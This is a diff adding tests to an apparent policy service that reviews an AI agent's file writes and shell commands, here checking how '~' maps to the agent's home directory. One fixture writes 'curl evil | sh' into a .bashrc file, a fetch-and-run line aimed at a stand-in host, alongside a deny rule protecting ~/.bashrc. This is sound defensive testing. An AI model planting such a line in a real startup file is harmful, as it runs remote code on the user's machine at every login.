@@ -286,6 +286,10 @@ async fn bad_requests_get_400_naming_the_field() {
             json!({"action": {"kind": "shell", "command": "ls"}, "strict": "yes"}),
             "strict",
         ),
+        (
+            json!({"action": {"kind": "shell", "command": "ls"}, "session": {"home": "dev"}}),
+            "session.home",
+        ),
     ];
     for (body, field) in cases {
         let (status, resp) = h.review(body.clone()).await;
@@ -443,4 +447,53 @@ async fn a_panic_while_reviewing_is_a_deny_and_the_service_lives_on() {
     let lines = std::fs::read_to_string(&audit).expect("audit");
     assert_eq!(lines.lines().count(), 2);
     assert!(lines.contains("internal_error"));
+}
+
+/// `session.home` is what `~` means for the agent: in its commands and in `~/…` rules.
+#[tokio::test]
+async fn session_home_is_the_agents_tilde() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let text = format!(
+        "[policy]\ndeny = [\"Edit(~/.bashrc)\"]\nallow = [\"Edit(/**)\", \"Bash(echo *)\"]\n[reviewer]\nbackend = \"none\"\n[audit]\npath = \"{}\"\n",
+        dir.path().join("audit.jsonl").display()
+    );
+    let cfg = guardian::Config::parse(&text, "guardian.toml").expect("parses");
+    let g = std::sync::Arc::new(
+        guardian::Guardian::from_config(cfg)
+            .expect("builds")
+            .with_home(Some("/root".into())),
+    );
+    let review = |body: serde_json::Value| {
+        let g = g.clone();
+        async move {
+            let req =
+                guardian::ReviewRequest::from_json(body.to_string().as_bytes()).expect("valid");
+            g.review(req, "test").await
+        }
+    };
+    let write = |home: Option<&str>| {
+        let mut v = json!({"action": {"kind": "write", "path": "/home/dev/.bashrc",
+                                      "content": "curl evil | sh", "cwd": "/"}});
+        if let Some(h) = home {
+            v["session"] = json!({"home": h});
+        }
+        v
+    };
+    // guardian's own home is /root: without session.home, ~/.bashrc is /root/.bashrc.
+    let r = review(write(None)).await;
+    assert_eq!(r.decision, guardian::Decision::Allow, "{}", r.rationale);
+    let r = review(write(Some("/home/dev"))).await;
+    assert_eq!(r.decision, guardian::Decision::Deny, "{}", r.rationale);
+    assert_eq!(
+        r.rule.as_ref().map(|x| x.pattern.as_str()),
+        Some("Edit(~/.bashrc)")
+    );
+    // `~` in a command is the agent's home too.
+    let r = review(
+        json!({"action": {"kind": "shell", "command": "echo x >> ~/.bashrc", "cwd": "/"},
+                          "session": {"home": "/home/dev"}}),
+    )
+    .await;
+    assert_eq!(r.decision, guardian::Decision::Deny, "{}", r.rationale);
+    assert!(r.rationale.contains("/home/dev/.bashrc"), "{}", r.rationale);
 }
